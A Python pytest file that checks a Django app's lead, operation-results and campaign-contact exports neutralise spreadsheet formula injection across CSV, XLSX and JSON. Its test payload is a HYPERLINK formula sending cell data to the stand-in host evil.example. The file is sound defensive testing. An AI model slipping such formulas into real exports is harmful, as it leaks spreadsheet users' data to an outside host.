"""Spreadsheet formula injection: every export neutralises cells that start with = + - @, a tab or a CR.

tests/leads/test_export.py covers one prefix per lead export format (on the names), and
tests/operations/test_generic_api.py an `=HYPERLINK` error on the API's results CSV. Here: every
prefix, every free-text column, every format (PostgreSQL's COPY path included), the results CSV of
the operation page too, and the campaign contacts export.
"""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from campaigns import services as campaigns
from operations import engine
from operations.models import BulkOperationItem, ItemStatus
from tests import factories

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PREFIX_IDS = ["equals", "plus", "minus", "at", "tab", "cr"]
TEXT_FIELDS = ["first_name", "last_name", "email", "area", "source", "team", "owner"]


def formula(prefix: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?"&A1,"click")'


def rows_of(fmt: str, content: bytes) -> list[dict]:
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    if fmt == "json":
        return json.loads(content)
    sheet = load_workbook(io.BytesIO(content)).active  # not read-only: cell types are checked below
    header, *rows = list(sheet.iter_rows())
    for row in rows:
        assert all(cell.data_type != "f" for cell in row), "a cell was written as a formula"
    names = [cell.value for cell in header]
    return [dict(zip(names, (cell.value for cell in row), strict=True)) for row in rows]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_the_lead_export_neutralises_every_text_column(prefix, fmt, media, client_for, manager, location):
    evil = formula(prefix)
    agent = factories.make_agent(location, user=factories.make_user(evil[:150], location=location))
    team = factories.make_team(location, evil)
    lead = factories.make_lead(
        location, first_name=evil, last_name=evil, email=evil, area=evil, source=evil[:64], owner=agent, team=team
    )
    plain = factories.make_lead(location, first_name="Ana", last_name="Diaz", email="ana@example.com")
    operation, _ = engine.create_operation(
        user=manager,
        location=location,
        target="leads",
        operation_type="export",
        params={"format": fmt, "fields": ["id", *TEXT_FIELDS]},
        ids=[lead.pk, plain.pk],
    )
    engine.run_operation(operation.pk)

    response = client_for(manager).get(f"/leads/bulk/exports/{operation.pk}/")
    assert response.status_code == 200
    by_id = {int(row["id"]): row for row in rows_of(fmt, b"".join(response.streaming_content))}
    expected = {field: "'" + {"source": evil[:64], "owner": evil[:150]}.get(field, evil) for field in TEXT_FIELDS}
    if fmt == "xlsx":  # XML reads a CR back as a line feed: the cell still starts with the quote
        expected = {field: value.replace("\r", "\n") for field, value in expected.items()}
    assert {field: by_id[lead.pk][field] for field in TEXT_FIELDS} == expected
    assert (by_id[plain.pk]["first_name"], by_id[plain.pk]["email"]) == ("Ana", "ana@example.com")


@pytest.fixture
def finished_with_errors(manager, location):
    """A finished ticket operation whose failed items carry an error starting with each prefix."""
    tickets = [factories.make_ticket(location) for _ in PREFIXES]
    operation, _ = engine.create_operation(
        user=manager,
        location=location,
        target="tickets",
        operation_type="update_priority",
        params={"priority": "high"},
        ids=[t.pk for t in tickets],
    )
    engine.run_operation(operation.pk)
    for ticket, prefix in zip(tickets, PREFIXES, strict=True):
        BulkOperationItem.objects.filter(operation=operation, object_id=ticket.pk).update(
            status=ItemStatus.FAILED, error_message=formula(prefix)
        )
    return operation, {t.pk: formula(p) for t, p in zip(tickets, PREFIXES, strict=True)}


@pytest.mark.parametrize("url", ["/api/v1/bulk-operations/{}/results.csv", "/operations/{}/results.csv"])
def test_the_results_csv_neutralises_every_prefix(url, finished_with_errors, client_for, manager):
    operation, errors = finished_with_errors
    response = client_for(manager).get(url.format(operation.pk))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert {int(row["object_id"]): row["error_message"] for row in rows} == {
        pk: "'" + error for pk, error in errors.items()
    }


def test_the_campaign_contacts_export_neutralises_names_and_metadata(client_for, manager, location):
    # Tabs and CRs are left out: the importer strips each cell, and a tab would be the file's delimiter.
    prefixes = ["=", "+", "-", "@"]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["phone", "name", "company", "note"])
    numbers = [f"+1212555010{n}" for n in range(len(prefixes))]
    for number, prefix in zip(numbers, prefixes, strict=True):
        writer.writerow([number, formula(prefix) + " name", formula(prefix), "plain"])
    campaign, result = campaigns.create_campaign(
        location=location, user=manager, file_bytes=buffer.getvalue().encode(), filename="c.csv"
    )
    assert len(result.contacts) == len(prefixes)

    response = client_for(manager).get(f"/campaigns/{campaign.pk}/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    by_phone = {row["phone"]: row for row in rows}
    assert set(by_phone) == set(numbers)  # E.164 numbers are a + and digits: nothing to neutralise
    for number, prefix in zip(numbers, prefixes, strict=True):
        cell = formula(prefix)
        assert (by_phone[number]["name"], by_phone[number]["company"], by_phone[number]["note"]) == (
            "'" + cell + " name",
            "'" + cell,
            "plain",
        )


def test_a_contact_file_upload_then_export_round_trip_through_the_api(api_for, client_for, manager):
    data = b"phone,name\n+12125550101,=1+1\n"
    response = api_for(manager).post(
        "/api/v1/campaigns/create", {"file": SimpleUploadedFile("c.csv", data), "settings": "{}"}, format="multipart"
    )
    assert response.status_code == 201
    export = client_for(manager).get(f"/campaigns/{response.json()['campaign_id']}/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert rows[0]["name"] == "'=1+1"
